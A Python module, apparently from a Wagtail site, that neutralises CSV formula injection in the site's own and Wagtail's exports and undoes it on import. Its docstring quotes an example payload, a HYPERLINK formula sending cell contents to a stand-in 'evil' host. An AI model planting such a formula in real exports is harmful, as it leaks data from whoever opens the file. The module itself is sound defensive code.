"""CSV cells that spreadsheets would execute are written as text.

Excel, LibreOffice and WPS treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula: a page title or glossary term
such as ``=HYPERLINK("http://evil/?"&A1,"点此")`` would run on the editor's machine when
they open an export. Every CSV the project writes goes through ``neutralise()``, which
puts an apostrophe in front of such a cell (OWASP's advice: the spreadsheet shows the
text, without the apostrophe, and runs nothing):

- our own CSVs use ``writer()`` instead of ``csv.writer()``;
- Wagtail's exports (the snippet listings' ``list_export``, such as the glossary, and its
  reports: locked pages, workflows, aging pages, site history) all format their cells in
  ``SpreadsheetExportMixin.preprocess_field_value()``; ``protect_wagtail_exports()``
  neutralises what that returns for CSV. (Wagtail's XLSX exports already store such
  cells as strings, never as formulas.)

Reading a CSV we wrote back in (``import_glossary``), ``restore()`` removes the
apostrophe again.
"""

import csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` safe for a CSV cell (non-strings are left alone: numbers are numbers)."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def restore(value):
    """The text ``neutralise()`` was given, from a cell it wrote."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value


class _Writer:
    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs):
    """``csv.writer(out, **kwargs)`` whose cells are neutralised."""
    return _Writer(out, **kwargs)


def protect_wagtail_exports():
    """Neutralise every CSV cell Wagtail's spreadsheet exports write (called once, from
    the app's ready()). Wagtail has no setting or hook for this, and its report views
    are its own classes, so the shared formatting method is wrapped in place."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "kepu_neutralised", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return neutralise(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.kepu_neutralised = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
